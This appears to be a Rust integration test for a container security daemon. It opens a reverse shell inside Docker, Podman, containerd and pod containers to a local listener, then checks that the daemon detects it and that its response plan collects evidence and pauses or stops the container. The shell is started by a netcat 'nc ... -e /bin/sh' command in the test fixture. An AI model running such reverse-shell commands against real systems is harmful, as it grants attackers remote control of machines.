//! The commands of the response plan, run for real against the container that a finding is of.

use std::process::{Command, Stdio};

use serde_json::Value;

use crate::attack::Identity;
use crate::common::attacker::Listener;
use crate::common::daemon::{Daemon, TETHERD, tetherd};
use crate::common::victim::Victim;
use crate::containerd::Containerd;
use crate::cri::Pod;
use crate::docker::{Api, Docker};
use crate::home::Home;
use crate::podman::Podman;
use crate::{require, require_containerd, require_docker, require_podman};

/// Programs of the machine itself that the plan names and that are everywhere.
const PLAIN: [&str; 9] = ["cat", "cp", "hostname;", "ls", "nsenter", "ps", "sha256sum", "test", "tetherd"];

/// A response to a reverse shell in a container, by its plan alone. `client` is the runtime's, as the plan calls it;
/// `with` is how it is reached here; `resumes` undoes the plan's pause.
fn respond(
    home: &Home,
    identity: Identity,
    start: &dyn Fn(&str) -> Command,
    client: &str,
    with: &str,
    resumes: &str,
) {
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let mut session = attacker.accept();
    let found = daemon.wait_for("the reverse shell", |record| record.peer_port() == Some(attacker.port()));
    identity.is_in(&found);
    let spool = daemon.place().spool().display().to_string();
    let output = tetherd(&["explain", found.id(), "--json", "--spool", &spool]);
    let plan: Value = serde_json::from_slice(&output.stdout).unwrap();
    let evidence = home.text(&format!("evidence-{}", found.id()));
    std::fs::create_dir(&evidence).unwrap();
    let steps = plan["steps"].as_array().unwrap().iter();
    let commands = steps.flat_map(|step| step["commands"].as_array().unwrap().clone());
    let (mut looked, mut of_client, mut changing) = (0, 0, Vec::new());
    for command in commands {
        let line = command["command"].as_str().unwrap().replace("<EVIDENCE_DIRECTORY>", &evidence);
        let first = line.split(' ').next().unwrap();
        let own = line.strip_prefix(client).filter(|_| first == client);
        if own.is_none() && !PLAIN.contains(&first) {
            continue;
        }
        // The plan's program, where the test has it.
        let line = match (own, line.strip_prefix("tetherd ")) {
            (Some(rest), _) => format!("{with}{rest}"),
            (None, Some(rest)) => format!("{TETHERD} {rest}"),
            (None, None) => line.clone(),
        };
        if command["changes"] == true {
            changing.push((own.is_some(), line));
            continue;
        }
        let output = home.try_bash(&line);
        assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
        looked += 1;
        of_client += usize::from(own.is_some());
    }
    assert!(looked > 8 && of_client >= 2, "{looked} commands, {of_client} of {client}");
    let copy = std::fs::read(format!("{evidence}/{}-exe", found.id())).unwrap();
    assert!(copy == std::fs::read("/bin/busybox").unwrap(), "the program that was kept");
    for (own, line) in &changing {
        assert!(*own, "{line}");
        home.bash(line);
        if line.contains("pause") {
            home.bash(&format!("{with} {resumes} {}", identity.id));
        }
    }
    assert!(!changing.is_empty());
    // The container was stopped, and the shell's connection is gone with it; of a pod that takes crictl.
    if changing.iter().any(|(_, line)| !line.contains("pause")) {
        session.rest();
    }
    drop((session, victim));
}

#[test]
fn responds_with_docker() {
    require_docker!();
    require!("ss", "nsenter");
    let container = Docker::shared().sleeper();
    let with = container.docker.cli(Api::Unix, "");
    let identity = Identity::new(&container.id, "docker");
    respond(
        &container.docker.home,
        identity,
        &|line| container.exec(line),
        "docker",
        with.trim_end(),
        "unpause",
    );
}

#[test]
fn responds_with_podman() {
    require_podman!();
    require!("ss", "nsenter");
    let container = Podman::shared().sleeper("runc");
    let with = container.podman.cli("");
    let identity = Identity::new(&container.id, "podman");
    respond(
        &container.podman.home,
        identity,
        &|line| container.exec(line),
        "podman",
        with.trim_end(),
        "unpause",
    );
}

#[test]
fn responds_with_ctr() {
    require_containerd!();
    require!("ss", "nsenter");
    let task = Containerd::shared().sleeper();
    let with = task.containerd.ctr("");
    let identity = Identity::new(&task.id, "containerd");
    respond(&task.containerd.home, identity, &|line| task.exec(line), "ctr", with.trim_end(), "task resume");
}

#[test]
fn responds_with_ctr_in_a_pod() {
    require_containerd!();
    require!("ss", "nsenter");
    let pod = Pod::run("sleep 600");
    let with = pod.containerd.ctr("");
    let identity = Identity { pod_uid: &pod.uid, ..Identity::new(&pod.id, "containerd") };
    respond(
        &pod.containerd.home,
        identity,
        &|line| pod.exec(line),
        "ctr",
        with.trim_end(),
        "-n k8s.io task resume",
    );
}
